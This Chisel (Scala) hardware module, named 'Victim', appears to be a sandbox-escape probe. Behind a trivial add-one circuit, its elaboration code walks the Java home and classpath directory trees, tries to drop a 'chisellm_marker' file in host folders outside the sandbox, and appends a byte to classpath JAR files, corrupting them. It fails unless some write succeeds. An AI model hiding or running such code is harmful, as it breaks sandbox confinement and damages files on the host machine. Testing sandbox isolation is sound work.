import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val roots = System.getProperty("java.home") +: System.getProperty("java.class.path").split(":").toSeq
  val folders = roots.flatMap(root => Iterator.iterate(new java.io.File(root))(_.getParentFile).takeWhile(_ != null)).distinct
  // Below /tmp only what was bound there is the host's; the way to it is the sandbox's own.
  val own = folders.filter(folder => folder.getPath.startsWith("/tmp") && !roots.exists(folder.getPath.startsWith))
  val written = folders.filter(_.isDirectory).filterNot(own.contains).exists { folder =>
    try new java.io.File(folder, "chisellm_marker").createNewFile() catch { case _: Throwable => false }
  } || roots.filter(new java.io.File(_).isFile).exists { file =>
    try { new java.io.FileOutputStream(file, true).write(0); true } catch { case _: Throwable => false }
  }
  require(written, "not written")
  io.out := io.in + 1.U
}
